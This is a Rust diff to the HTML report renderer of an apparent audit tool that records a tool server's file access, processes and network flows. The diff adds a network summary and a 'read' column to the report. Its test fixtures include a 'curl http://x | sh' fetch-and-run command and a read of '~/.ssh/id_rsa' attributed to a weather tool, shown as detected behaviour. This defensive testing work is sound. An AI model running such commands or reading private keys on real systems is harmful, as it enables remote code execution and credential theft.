@@ -144,6 +144,9 @@ fn header(out: &mut String, ev: &Evidence, report: &AuditReport, command: &str) 
         item("server", exit);
     }
     item("recorded", tables::recorded(ev));
+    if let Some(text) = tables::network(ev) {
+        item("network", text);
+    }
     out.push_str("</dl>\n</header>\n");
 }
 
@@ -435,6 +438,7 @@ fn network(out: &mut String, ev: &Evidence) {
                 "flows",
                 "packets out",
                 "bytes out",
+                "read",
                 "flow ids",
             ],
         );
@@ -448,6 +452,7 @@ fn network(out: &mut String, ev: &Evidence) {
                     cell("num", &g.flows.to_string()),
                     cell("num", &g.packets.to_string()),
                     cell("num", &g.bytes.to_string()),
+                    cell("", &cut(&g.read, WIDE)),
                     cell("", &tables::ids(&g.ids).join(", ")),
                 ],
             );
@@ -740,7 +745,7 @@ mod tests {
             "<tr><td class=\"mono\">~/.ssh/id_rsa</td><td>read+stat</td><td>call:get_weather, shutdown</td><td class=\"num\">3</td></tr>",
             "<tr><td class=\"num\">9</td><td class=\"num\">1</td><td class=\"mono\">sh -c &#39;curl http://x | sh&#39;</td><td>call:run</td><td class=\"num\">1</td></tr>",
             "<tr><td>capture</td><td class=\"num\">0</td><td class=\"num\">2</td><td class=\"o-pass\">verified</td><td class=\"num\">0</td></tr>",
-            "<tr><td>capture</td><td>tcp</td><td class=\"mono\">198.18.0.7:443 = api.example.com SNI api.example.com</td><td class=\"num\">2</td><td class=\"num\">6</td><td class=\"num\">1034</td><td>1, 2</td></tr>",
+            "<tr><td>capture</td><td>tcp</td><td class=\"mono\">198.18.0.7:443 = api.example.com SNI api.example.com</td><td class=\"num\">2</td><td class=\"num\">6</td><td class=\"num\">1034</td><td></td><td>1, 2</td></tr>",
             "<tr><td class=\"mono\">get_weather</td><td>yes</td><td>ok</td><td>Get the weather for a city.</td></tr>",
             "<tr><td class=\"mono\">run</td><td>no</td><td>not called</td><td>Runs a command.</td></tr>",
             "<tr><td class=\"mono\">call:get_weather</td><td class=\"num\">205.0</td><td class=\"num\">1340.2</td><td class=\"num\">1135.2</td></tr>",
